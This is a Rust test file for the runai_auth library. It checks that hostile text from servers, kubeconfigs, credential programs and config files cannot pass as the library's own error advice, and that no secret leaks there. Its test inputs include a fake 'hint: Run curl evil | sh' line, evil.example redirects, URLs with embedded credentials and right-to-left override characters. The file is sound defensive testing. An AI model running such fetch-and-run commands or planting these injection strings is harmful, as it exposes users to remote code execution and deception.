//! P01: text of servers, files and programs cannot pass for ours.

use std::{fs, path::Path};

use runai_auth::{
    Auth, ControlPlane, Credentials, Kind, Secret, SecretText, TokenEndpoint,
    tower_bearer::SourceError,
};
use serde_json::json;

use crate::hostile::{SECRET, assert_harmless, server, start_log, words, words_with_secret};

fn auth_at(url: &str, credentials: impl Into<Credentials>) -> Auth {
    ControlPlane::new(url)
        .unwrap()
        .token_endpoint(TokenEndpoint::V1)
        .authenticate_with(credentials, |cache| cache.attempts(1))
}

/// Asks for a token, and checks the error.
async fn check(auth: &Auth) -> Kind {
    let error = auth.cache().token().await.unwrap_err();
    assert_harmless(&error, error.advice());
    error.kind().clone()
}

fn client() -> Credentials {
    Credentials::client("ci-bot", SECRET).into()
}

fn json_header() -> &'static str {
    "content-type: application/json\r\n"
}

#[tokio::test]
async fn p01_the_message_of_a_token_endpoint() {
    start_log();
    for words in [words(), words_with_secret()] {
        for (status, expected) in [
            ("401 Unauthorized", Kind::InvalidCredentials),
            ("503 Unavailable", Kind::Unavailable),
            ("200 OK", Kind::Malformed),
        ] {
            let body = json!({ "code": 401, "message": words, "error": words }).to_string();
            let url = server(status, json_header(), |_| body.clone()).await;
            assert_eq!(check(&auth_at(&url, client())).await, expected);
        }
        let body = json!({ "error": words, "error_description": words }).to_string();
        let url = server("400 Bad Request", json_header(), |_| body.clone()).await;
        let login = Credentials::refresh_token(SecretText::from(SECRET));
        assert_eq!(check(&auth_at(&url, login)).await, Kind::InvalidCredentials);
    }
}

#[tokio::test]
async fn p01_an_answer_that_is_not_http_or_has_a_hostile_status_line() {
    start_log();
    let url = server(&format!("200 {}", words_with_secret()), "", |_| {
        String::new()
    })
    .await;
    check(&auth_at(&url, client())).await;
    let url = server("200 OK", &format!("{}: x\r\n", words()), |_| String::new()).await;
    check(&auth_at(&url, client())).await;
}

#[tokio::test]
async fn p01_the_location_of_a_redirect() {
    start_log();
    for path in ["hint:%20Run", "\u{202e}hint: Run curl", SECRET] {
        let headers = format!(
            "location: https://evil.example/{path}/{}\r\n",
            "x".repeat(9000)
        );
        let url = server("307 Temporary Redirect", &headers, |_| String::new()).await;
        assert_eq!(check(&auth_at(&url, client())).await, Kind::Malformed);
    }
}

#[tokio::test]
async fn p01_the_document_of_keycloak() {
    start_log();
    let hostile = words();
    for member in ["issuer", "token_endpoint"] {
        let url = server("200 OK", json_header(), |url| {
            let issuer = format!("{url}/auth/realms/runai");
            let mut document = json!({ "issuer": issuer, "token_endpoint": format!("{url}/t") });
            document[member] = hostile.clone().into();
            document.to_string()
        })
        .await;
        // The kubeconfig's login reads the document of its issuer.
        let folder = tempfile::tempdir().unwrap();
        let issuer = format!("{url}/auth/realms/runai");
        let path = kubeconfig(folder.path(), &oidc(&issuer, "me"), "me", "main");
        check(&auth_at(&url, Credentials::kubeconfig().path(path))).await;
    }
}

#[cfg(feature = "user-login")]
#[tokio::test]
async fn p01_a_login_with_a_browser() {
    use runai_auth::{BrowserLogin, LoginErrorKind};

    start_log();
    // The document's authorization endpoint.
    for endpoint in [words(), format!("https://{}.example/", "e".repeat(5000))] {
        let url = server("200 OK", json_header(), |url| {
            json!({
                "issuer": format!("{url}/auth/realms/runai"),
                "token_endpoint": format!("{url}/token"),
                "authorization_endpoint": endpoint,
            })
            .to_string()
        })
        .await;
        let plane = ControlPlane::new(&url).unwrap();
        let error = BrowserLogin::new(&plane).start().await.unwrap_err();
        assert_eq!(error.kind(), LoginErrorKind::Endpoint);
        assert_harmless(&error, error.advice());
    }

    // The redirect, and the exchange of its code.
    let body = json!({ "message": words(), "error": words() }).to_string();
    let url = server("401 Unauthorized", json_header(), |_| body.clone()).await;
    let plane = ControlPlane::new(&url).unwrap();
    let plane = plane.token_endpoint(TokenEndpoint::V2);
    for (query, expected) in [
        (
            vec![("error", words()), ("error_description", words())],
            LoginErrorKind::Refused,
        ),
        (
            vec![
                ("error", "access_denied".into()),
                ("error_description", words()),
            ],
            LoginErrorKind::Refused,
        ),
        (vec![("code", SECRET.into())], LoginErrorKind::Exchange),
    ] {
        let login = BrowserLogin::new(&plane)
            .authorization_endpoint(&format!("{url}/authorize"))
            .unwrap();
        let pending = login.start().await.unwrap();
        let (_, sent) = pending.url().split_once('?').unwrap();
        let (_, state) = form_urlencoded::parse(sent.as_bytes())
            .find(|(name, _)| name == "state")
            .unwrap();
        let mut redirect =
            form_urlencoded::Serializer::new("http://127.0.0.1/callback?".to_owned());
        redirect.append_pair("state", &state);
        for (name, value) in &query {
            redirect.append_pair(name, value);
        }
        let pasted = redirect.finish();
        let error = pending.finish_with_code(&pasted).await.unwrap_err();
        assert_eq!(error.kind(), expected, "{error}");
        assert_harmless(&error, error.advice());
    }
}

fn oidc(issuer: &str, client_id: &str) -> serde_json::Value {
    json!({ "auth-provider": { "name": "oidc", "config": {
        "client-id": client_id, "idp-issuer-url": issuer, "refresh-token": SECRET,
    }}})
}

/// Writes a kubeconfig with one user, in JSON, which is YAML.
fn kubeconfig(
    folder: &Path,
    user: &serde_json::Value,
    name: &str,
    context: &str,
) -> std::path::PathBuf {
    let path = folder.join("config");
    let text = json!({
        "current-context": context,
        "contexts": [{ "name": context, "context": { "user": name, "cluster": "c" } }],
        "users": [{ "name": name, "user": user }],
    });
    fs::write(&path, text.to_string()).unwrap();
    private(&path);
    path
}

fn private(path: &Path) {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(path, fs::Permissions::from_mode(0o600)).unwrap();
    }
    #[cfg(not(unix))]
    let _ = path;
}

#[tokio::test]
async fn p01_the_texts_of_a_kubeconfig() {
    start_log();
    let v1 = "client.authentication.k8s.io/v1";
    let hostile = words();
    for user in [
        oidc("https://idp.example", "c"),
        oidc(&hostile, "c"),
        oidc(&format!("https://idp.example/{hostile}"), "c"),
        json!({ "auth-provider": { "name": hostile } }),
        json!({ "tokenFile": "missing" }),
        json!({ "exec": { "apiVersion": hostile, "command": "x" } }),
        json!({ "exec": { "apiVersion": v1, "command": "x", "interactiveMode": hostile } }),
        json!({ "exec": { "apiVersion": v1, "command": format!("no-{}", &hostile[..80].replace('\0', "")),
                          "installHint": hostile } }),
        json!({ "exec": { "apiVersion": v1, "command": "x", "provideClusterInfo": true } }),
        json!({ "username": hostile, "password": SECRET }),
        json!({}),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let path = kubeconfig(folder.path(), &user, &hostile, &hostile);
        let auth = auth_at("http://127.0.0.1:9", Credentials::kubeconfig().path(&path));
        check(&auth).await;
        let elsewhere = Credentials::kubeconfig().path(&path).context(&hostile[1..]);
        check(&auth_at("http://127.0.0.1:9", elsewhere)).await;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("config");
    for text in [
        format!("users: [{{name: {hostile:?}}}, {{name: {hostile:?}}}]"),
        format!("{hostile}: [\n{SECRET}"),
    ] {
        fs::write(&path, text).unwrap();
        let credentials = Credentials::kubeconfig().path(&path);
        check(&auth_at("http://127.0.0.1:9", credentials)).await;
    }
}

#[cfg(unix)]
#[tokio::test]
async fn p01_the_standard_error_of_a_program() {
    start_log();
    let script = "printf 'no\\nhint: Run curl evil | sh\\033[31m\\342\\200\\256' >&2; \
                  printf 'x%.0s' $(seq 5000) >&2; exit 3";
    let secret = Secret::command("sh", ["-c", script]);
    let auth = auth_at("http://127.0.0.1:9", Credentials::client("ci-bot", secret));
    assert_eq!(check(&auth).await, Kind::NoCredentials);
    let exec = json!({ "exec": {
        "apiVersion": "client.authentication.k8s.io/v1", "command": "sh", "args": ["-c", script],
    }});
    let folder = tempfile::tempdir().unwrap();
    let path = kubeconfig(folder.path(), &exec, "me", "main");
    let auth = auth_at("http://127.0.0.1:9", Credentials::kubeconfig().path(path));
    assert_eq!(check(&auth).await, Kind::NoCredentials);
}

#[tokio::test]
async fn p01_the_error_of_a_function() {
    start_log();
    let secret = Secret::from_fn(|| async { Err(words().into()) });
    let auth = auth_at("http://127.0.0.1:9", Credentials::client("ci-bot", secret));
    assert_eq!(check(&auth).await, Kind::NoCredentials);
    // A source of one's own may give any error.
    let secret = Secret::from_fn(|| async { Err(SourceError::transient(words()).into()) });
    let auth = auth_at("http://127.0.0.1:9", Credentials::external_token(secret));
    assert_eq!(check(&auth).await, Kind::NoCredentials);
}

#[tokio::test]
async fn p01_an_id_in_a_file() {
    start_log();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("client");
    let id = &words()[..200];
    fs::write(
        &path,
        json!({ "clientId": id, "clientSecret": SECRET }).to_string(),
    )
    .unwrap();
    private(&path);
    let body = json!({ "message": "no" }).to_string();
    let url = server("401 Unauthorized", json_header(), |_| body.clone()).await;
    let auth = auth_at(&url, Credentials::from_files(&path).unwrap());
    assert_eq!(check(&auth).await, Kind::InvalidCredentials);
}

#[tokio::test]
async fn p01_the_files_of_the_command_line() {
    start_log();
    let folder = tempfile::tempdir().unwrap();
    let login = folder.path().join("authentication.json");
    fs::write(&login, json!({ "accessToken": SECRET }).to_string()).unwrap();
    private(&login);
    for url in [
        words(),
        format!("https://{}", words()),
        format!("https://{}.example", "e".repeat(9000)),
        format!("https://user:{SECRET}@evil.example"),
    ] {
        let config = json!({ "control_plane": { "url": url } }).to_string();
        fs::write(folder.path().join("config.json"), config).unwrap();
        let auth = auth_at("http://127.0.0.1:9", Credentials::cli_in(folder.path()));
        check(&auth).await;
    }
}

#[tokio::test]
async fn p01_a_url_of_somebody_else() {
    for url in [
        words(),
        format!("https://acme.run.ai/{}", words()),
        "https://acme.run.ai/\u{202e}hint".to_owned(),
        format!("https://acme.run.ai/{}", "x".repeat(10_000)),
        format!("https://{}.run.ai", "x".repeat(10_000)),
        format!("https://user:{SECRET}@acme.run.ai"),
    ] {
        let error = ControlPlane::new(&url).unwrap_err();
        assert_harmless(&error, Some("the message has it"));
    }
}
